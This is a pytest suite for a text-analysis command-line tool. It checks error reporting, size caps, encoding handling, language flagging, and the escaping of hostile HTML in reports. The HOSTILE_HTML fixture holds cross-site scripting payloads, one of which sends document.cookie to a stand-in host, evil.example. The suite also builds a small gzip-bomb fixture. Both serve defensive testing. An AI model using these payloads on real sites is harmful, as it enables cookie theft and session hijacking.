"""Bad input: a clear message naming the input, the run goes on, nothing stored is lost."""

from __future__ import annotations

import gzip
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from parallax.store import open_store

GOOD = (
    "A good article\n\nMarch 1, 2022\n\nThis is a perfectly ordinary article with enough words "
    "to be analysed as English text by the pipeline. It has two sentences.\n"
)

HOSTILE_HTML = """<!doctype html><html><head><title>Evil <script>alert(1)</script> title</title>
<meta name="author" content="&lt;img src=x onerror=alert(2)&gt;">
<script>document.location='http://evil.example/'+document.cookie</script></head>
<body><article><h1>Hostile <b onmouseover="alert(3)">page</b></h1>
<p>This page tries to run scripts in the reader's browser. &lt;script&gt;alert(4)&lt;/script&gt;
It also carries an iframe and a javascript link, and enough ordinary words to count as text.</p>
<iframe src="javascript:alert(5)"></iframe><p><a href="javascript:alert(6)">click</a> more words
about the story so that the extractor keeps this paragraph as part of the article body.</p>
</article></body></html>"""

CASES: dict[str, tuple[bytes, str]] = {
    "empty.txt": (b"", "empty"),
    "blank.txt": (b"   \n\n\t  \n", "empty"),
    "binary.txt": (bytes(range(256)) * 40, "binary"),
    "image.html": (b"\x89PNG\r\n\x1a\n" + os.urandom(2000), "binary"),
    "mixed.txt": ("Kyiv – “quoted” text ".encode() * 20 + " café".encode("latin-1"), "UTF-8"),
    "truncated.txt.gz": (gzip.compress(GOOD.encode() * 50)[:-40], "gzip"),
    "broken.pdf": (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog", "PDF"),
    "broken.json": (b'{"articles": [{"text": "unterminated', "JSON"),
    "nav.html": (b"<html><body><nav><a href='/'>Home</a></nav></body></html>", "no article text"),
}


def test_each_bad_input_is_reported_and_the_run_goes_on(
    write: Callable[[str, bytes | str], Path], cli: Any, db: Path
) -> None:
    good = write("good.txt", GOOD)
    bad = {name: write(name, data) for name, (data, _) in CASES.items()}
    missing = good.parent / "does-not-exist.txt"
    result = cli("analyze", str(good), *map(str, bad.values()), str(missing), "--format", "json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert [a["title"] for a in report["articles"]] == ["A good article"]
    errors = {Path(e["source"]).name: e["reason"] for e in report["errors"]}
    for name, (_, needle) in CASES.items():
        assert name in errors, f"{name} should be in errors"
        assert needle.lower() in errors[name].lower(), (name, errors[name])
        line = next(line for line in result.stderr.splitlines() if name in line)
        assert line.startswith("error: ") and str(bad[name]) in line
    assert "no such file" in errors["does-not-exist.txt"]
    store = open_store(db)
    assert store.counts()["articles"] == 1 and store.integrity_ok()


def test_oversized_input_respects_the_cap(
    write: Callable[[str, bytes | str], Path], cli: Any
) -> None:
    big = write("big.txt", GOOD + "More words here. " * 40_000)
    bomb = write("bomb.txt.gz", gzip.compress(b"A" * 5_000_000))
    result = cli("analyze", str(big), str(bomb), "--max-size", "100KB", "--format", "json")
    assert result.exit_code == 1
    errors = {Path(e["source"]).name: e["reason"] for e in json.loads(result.stdout)["errors"]}
    assert "size cap" in errors["big.txt"] and "--max-size" in errors["big.txt"]
    assert "size cap" in errors["bomb.txt.gz"]


def test_failures_never_lose_stored_articles(
    write: Callable[[str, bytes | str], Path], cli: Any, db: Path
) -> None:
    good = write("good.txt", GOOD)
    assert cli("analyze", str(good), "--quiet").exit_code == 0
    before = open_store(db).counts()
    junk = write("junk.bin.txt", os.urandom(5000))
    assert cli("analyze", str(junk), "--quiet").exit_code == 1
    after = open_store(db)
    assert after.counts()["articles"] == before["articles"] == 1
    assert after.integrity_ok()


def test_wrong_but_recognisable_encoding_is_read(
    write: Callable[[str, bytes | str], Path], analyze_json: Any
) -> None:
    text = GOOD.replace("ordinary", "naïve café") + "Prices rose to 5 € in Zürich.\n"
    path = write("latin.txt", text.encode("cp1252"))
    report, result = analyze_json(path)
    assert result.exit_code == 0
    article = report["articles"][0]
    assert "naïve café" in article["text"] and "5 €" in article["text"]
    assert article["meta"]["encoding"] == "cp1252"


@pytest.mark.parametrize(
    ("name", "text", "language"),
    [
        (
            "de.txt",
            "Ein deutscher Artikel\n\n1. März 2022\n\nDie Regierung hat am Montag neue "
            "Maßnahmen beschlossen, die ab nächster Woche gelten sollen. Kritiker sprechen von "
            "einem Fehler.\n",
            "de",
        ),
        (
            "ru.txt",
            "Статья\n\nПравительство объявило о новых мерах в понедельник. Критики "
            "считают это ошибкой, которая дорого обойдётся гражданам страны.\n",
            "ru",
        ),
    ],
)
def test_non_english_is_stored_and_flagged(
    write: Callable[[str, bytes | str], Path],
    analyze_json: Any,
    db: Path,
    name: str,
    text: str,
    language: str,
) -> None:
    report, result = analyze_json(write(name, text))
    assert result.exit_code == 0
    article = report["articles"][0]
    assert article["language"] == language
    assert article["status"] == "not_analysed" and "not supported" in article["reason"]
    assert article["sentences"] == []
    assert open_store(db).counts()["articles"] == 1


def test_hostile_html_is_escaped_in_reports(
    write: Callable[[str, bytes | str], Path], cli: Any, tmp_path: Path
) -> None:
    page = write("hostile.html", HOSTILE_HTML)
    out = tmp_path / "r.html"
    result = cli("analyze", str(page), "--format", "html", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    html = out.read_text(encoding="utf-8")
    body = html.split("<body>", 1)[1]
    assert "<script" not in body.lower()
    assert "onerror=" not in body.replace("onerror=alert", "")  # only escaped forms remain
    assert "<iframe" not in body.lower() and "javascript:" not in body.split("Content")[0]
    assert "&lt;script&gt;" in body or "script" not in body
    md = cli("analyze", str(page), "--format", "md").stdout
    assert "<script" not in md


def test_directory_walk_skips_unknown_files(
    write: Callable[[str, bytes | str], Path], cli: Any
) -> None:
    good = write("dir/a.txt", GOOD)
    write("dir/picture.png", b"\x89PNG")
    write("dir/.hidden.txt", GOOD)
    result = cli("ingest", str(good.parent))
    assert result.exit_code == 0
    assert "1 stored" in result.stderr and "1 skipped" in result.stderr
